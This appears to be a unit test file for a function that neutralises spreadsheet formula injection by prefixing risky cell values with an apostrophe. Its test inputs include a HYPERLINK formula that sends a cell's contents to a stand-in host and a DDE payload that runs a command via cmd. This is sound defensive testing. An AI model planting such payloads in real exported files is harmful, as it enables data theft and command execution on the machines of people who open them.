import { spreadsheetSafe } from './spreadsheet-safe';

describe('spreadsheetSafe', () => {
  it('puts an apostrophe before text that a spreadsheet would read as a formula', () => {
    expect(spreadsheetSafe('=HYPERLINK("http://x.example/?"&A1,"点击")')).toBe(`'=HYPERLINK("http://x.example/?"&A1,"点击")`);
    expect(spreadsheetSafe('+86 13812345678')).toBe("'+86 13812345678");
    expect(spreadsheetSafe('-3天未返校')).toBe("'-3天未返校");
    expect(spreadsheetSafe('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(spreadsheetSafe('\t=1+2')).toBe("'\t=1+2");
    expect(spreadsheetSafe('\r=1+2')).toBe("'\r=1+2");
    expect(spreadsheetSafe('\u0000=1+2')).toBe("'\u0000=1+2");
    expect(spreadsheetSafe('-')).toBe("'-");
  });

  it('leaves other text, numbers, dates, booleans and null as they are', () => {
    for (const v of ['张晓明', '13812345678', '城关街道=东村', "'=1+2", ' =1+2', '', '2024-09-01', '<5']) expect(spreadsheetSafe(v)).toBe(v);
    expect(spreadsheetSafe(-300)).toBe(-300);
    expect(spreadsheetSafe(0)).toBe(0);
    const day = new Date('2024-09-01T00:00:00Z');
    expect(spreadsheetSafe(day)).toBe(day);
    expect(spreadsheetSafe(true)).toBe(true);
    expect(spreadsheetSafe(null)).toBeNull();
    expect(spreadsheetSafe(undefined)).toBeUndefined();
  });
});
